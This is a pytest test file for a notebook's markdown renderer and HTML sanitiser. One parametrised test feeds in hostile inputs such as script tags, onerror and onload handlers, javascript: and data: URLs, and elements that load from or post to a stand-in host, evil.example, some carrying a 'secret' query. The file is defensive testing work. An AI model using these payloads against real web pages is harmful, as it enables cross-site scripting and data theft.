import pytest

from aiportal.notebook.markup import rendered, sanitised


def test_markdown_becomes_html() -> None:
    html = rendered("# Capitals\n\n**Paris** `is` one\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for piece in ("<h1>Capitals</h1>", "<strong>Paris</strong>", "<code>is</code>", "<td>1</td>"):
        assert piece in html


def test_raw_html_in_markdown_is_shown_as_text() -> None:
    assert "<b>" not in rendered("a <b>bold</b> claim")
    assert "&lt;b&gt;" in rendered("a <b>bold</b> claim")


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>steal()</script>",
        "<img src=x onerror=steal()>",
        "<svg onload=steal()></svg>",
        "<iframe src='http://evil.example'></iframe>",
        "<form action='http://evil.example'><input name=key></form>",
        "<style>body { display: none }</style>",
        "<a href='javascript:steal()'>here</a>",
        "<a href='data:text/html,<script>steal()</script>'>here</a>",
        "<img src='http://evil.example/?q=secret'>",
        "<p style='background:url(http://evil.example)'>text</p>",
        "<video src='http://evil.example/v'></video>",
    ],
)
def test_nothing_runs_or_is_loaded_from_elsewhere(hostile: str) -> None:
    html = sanitised(hostile)
    for trace in ("steal", "evil.example", "style", "<form", "<input"):
        assert trace not in html


def test_a_remote_image_in_markdown_is_not_loaded() -> None:
    assert "evil.example" not in rendered("![chart](http://evil.example/?q=secret)")


def test_a_picture_that_comes_along_is_shown() -> None:
    assert 'src="data:image/png;base64,AAAA"' in rendered("![dot](data:image/png;base64,AAAA)")


def test_links_stay_and_tell_nobody_where_they_were() -> None:
    html = rendered("[docs](https://docs.example/page)")
    assert 'href="https://docs.example/page"' in html
    assert "noreferrer" in html
